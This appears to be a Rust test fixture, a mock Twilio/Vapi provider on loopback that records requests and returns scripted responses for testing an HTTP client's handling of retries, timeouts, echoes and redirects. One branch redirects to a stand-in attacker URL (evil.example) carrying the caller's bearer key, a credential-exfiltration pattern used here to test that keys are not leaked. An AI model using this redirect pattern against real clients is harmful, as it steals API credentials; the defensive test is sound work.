//! A provider of one's own, on loopback: what Vapi or Twilio would see. It records what reaches it.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;
use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

use futures_util::StreamExt as _;
use poem::http::StatusCode;
use poem::listener::TcpAcceptor;
use poem::{Body, Endpoint, Request, Response, ResponseBuilder, Server};
use tokio::net::TcpSocket;
use tokio::sync::Semaphore;

/// The number that the account at this provider has.
pub const OWNED_NUMBER: &str = "+15005550010";

/// A request as it arrived.
#[derive(Clone, Debug)]
pub struct Seen {
    /// The method.
    pub method: String,
    /// The request target, raw.
    pub target: String,
    /// The headers, by lower-case name.
    pub headers: BTreeMap<String, String>,
    /// The body.
    pub body: String,
}

/// A running provider; it stops with its test's runtime.
pub struct Provider {
    /// `http://127.0.0.1:PORT`.
    pub url: String,
    seen: Arc<Mutex<Vec<Seen>>>,
    released: Arc<Semaphore>,
}

struct Answers {
    seen: Arc<Mutex<Vec<Seen>>>,
    released: Arc<Semaphore>,
}

impl Endpoint for Answers {
    type Output = Response;

    async fn call(&self, request: Request) -> poem::Result<Response> {
        let seen = seen(request).await;
        self.lock().push(seen.clone());
        let response = Response::builder()
            .header("set-cookie", "provider=1")
            .header("x-provider", "yes");
        if seen.target.contains("/IncomingPhoneNumbers.json") {
            return Ok(owned_numbers(response, &seen.target));
        }
        // `status/401` has that status; so has `held/401`, once the test releases it.
        let mut words = seen.target.rsplit('/');
        let last = words.next().unwrap_or_default();
        if let (Ok(status), Some(how @ ("status" | "held"))) = (last.parse(), words.next()) {
            if how == "held" {
                self.released.acquire().await.expect("never closed").forget();
            }
            return Ok(response
                .status(StatusCode::from_u16(status).expect("a status"))
                .finish());
        }
        Ok(match last {
            "fails-twice" if self.times(&seen.target) <= 2 => {
                response.status(StatusCode::SERVICE_UNAVAILABLE).finish()
            }
            last if last == "media" || last.starts_with("redirect") => {
                redirected(response, last, seen.sent())
            }
            _ => answered(response, last, &seen),
        })
    }
}

/// What arrived.
async fn seen(mut request: Request) -> Seen {
    let headers = request.headers().iter().map(|(name, value)| {
        let value = String::from_utf8_lossy(value.as_bytes());
        (name.to_string(), value.into_owned())
    });
    Seen {
        method: request.method().to_string(),
        target: request.original_uri().to_string(),
        headers: headers.collect(),
        body: request.take_body().into_string().await.unwrap_or_default(),
    }
}

/// Twilio's own shape; the account has one number.
fn owned_numbers(response: ResponseBuilder, target: &str) -> Response {
    let owned = format!(r#"{{"incoming_phone_numbers":[{{"phone_number":"{OWNED_NUMBER}"}}]}}"#);
    let asked = target.contains(&OWNED_NUMBER.replace('+', "%2B"));
    let none = r#"{"incoming_phone_numbers":[]}"#.to_owned();
    response
        .content_type("application/json")
        .body(if asked { owned } else { none })
}

/// Sends the caller elsewhere, in every way that must not be followed with a key.
fn redirected(response: ResponseBuilder, how: &str, sent: &str) -> Response {
    let location = match how {
        "redirect" => "http://127.0.0.1:1/secret".to_owned(),
        "media" => "https://mms.twiliocdn.com/AC1/ME1?sig=x".to_owned(),
        "redirect-with-key" => {
            let key = sent.replace("Bearer ", "").replace('-', "%2D");
            format!("https://evil.example/?k={key}")
        }
        to => to.replace("redirect-to-", "https://"),
    };
    response
        .status(StatusCode::FOUND)
        .header("location", location)
        .finish()
}

/// Answers as the last word of the target says; what it doesn't know gets its own body back.
fn answered(response: ResponseBuilder, how: &str, seen: &Seen) -> Response {
    let sent = seen.sent();
    match how {
        "fails-for-long" => response
            .status(StatusCode::TOO_MANY_REQUESTS)
            .header("retry-after", "60")
            .finish(),
        "echo" => response.body(in_pieces(&format!(r#"{{"authorization":"{sent}"}}"#))),
        "late-echo" => response.body(in_pieces(&format!("{}{sent}", "x".repeat(100_000)))),
        "echo-header" => response.header("x-echo", sent).body("nothing here"),
        "compressed" => response.header("content-encoding", "gzip").body("pretend"),
        "payment-required" => response
            .status(StatusCode::PAYMENT_REQUIRED)
            .content_type("application/json")
            .body(r#"{"code":20003,"message":"no money"}"#),
        "unauthorized" => response
            .status(StatusCode::UNAUTHORIZED)
            .header("www-authenticate", "Basic")
            .body("bad key"),
        "trickle" => response.body(trickle()),
        _ => response.content_type("application/json").body(seen.body.clone()),
    }
}

/// A first piece at once, and the rest only after a client that waits for all of it would have given up.
fn trickle() -> Body {
    let pieces = futures_util::stream::iter(["first", "second"]).then(async |piece| {
        if piece == "second" {
            tokio::time::sleep(Duration::from_secs(30)).await;
        }
        Ok::<_, std::io::Error>(piece)
    });
    Body::from_bytes_stream(Box::pin(pieces))
}

impl Seen {
    /// What it was authorised with.
    fn sent(&self) -> &str {
        self.headers.get("authorization").map_or("", String::as_str)
    }
}

impl Answers {
    fn lock(&self) -> MutexGuard<'_, Vec<Seen>> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// How often this has been asked for.
    fn times(&self, target: &str) -> usize {
        self.lock().iter().filter(|seen| seen.target == target).count()
    }
}

/// A body whose every piece breaks what is at its end.
fn in_pieces(text: &str) -> Body {
    let (most, rest) = text.split_at(text.len() - 7);
    let pieces = [most.to_owned(), rest.to_owned()].map(Ok::<_, std::io::Error>);
    Body::from_bytes_stream(futures_util::stream::iter(pieces))
}

impl Provider {
    /// On a free port.
    #[must_use]
    pub fn start() -> Self {
        let (_, socket) = Self::absent();
        Self::listening(socket)
    }

    /// The address of one that refuses connections, until it listens on this socket.
    #[must_use]
    pub fn absent() -> (String, TcpSocket) {
        let socket = TcpSocket::new_v4().expect("a socket");
        socket
            .bind((Ipv4Addr::LOCALHOST, 0).into())
            .expect("loopback has free ports");
        let address = socket.local_addr().expect("bound");
        (format!("http://{address}"), socket)
    }

    /// On a socket of [`Provider::absent`].
    #[must_use]
    pub fn listening(socket: TcpSocket) -> Self {
        let url = format!("http://{}", socket.local_addr().expect("bound"));
        let listener = socket.listen(1024).expect("it can");
        let acceptor = TcpAcceptor::from_tokio(listener).expect("it is bound");
        let seen = Arc::new(Mutex::new(Vec::new()));
        let released = Arc::new(Semaphore::new(0));
        let answers = Answers {
            seen: Arc::clone(&seen),
            released: Arc::clone(&released),
        };
        tokio::spawn(Server::new_with_acceptor(acceptor).run(answers));
        Self { url, seen, released }
    }

    /// Lets one `held/…` request have its answer.
    pub fn release(&self) {
        self.released.add_permits(1);
    }

    /// Everything that has reached it so far.
    #[must_use]
    pub fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }

    /// The last request that reached it.
    #[must_use]
    pub fn last(&self) -> Seen {
        self.seen().pop().expect("something reached the provider")
    }
}
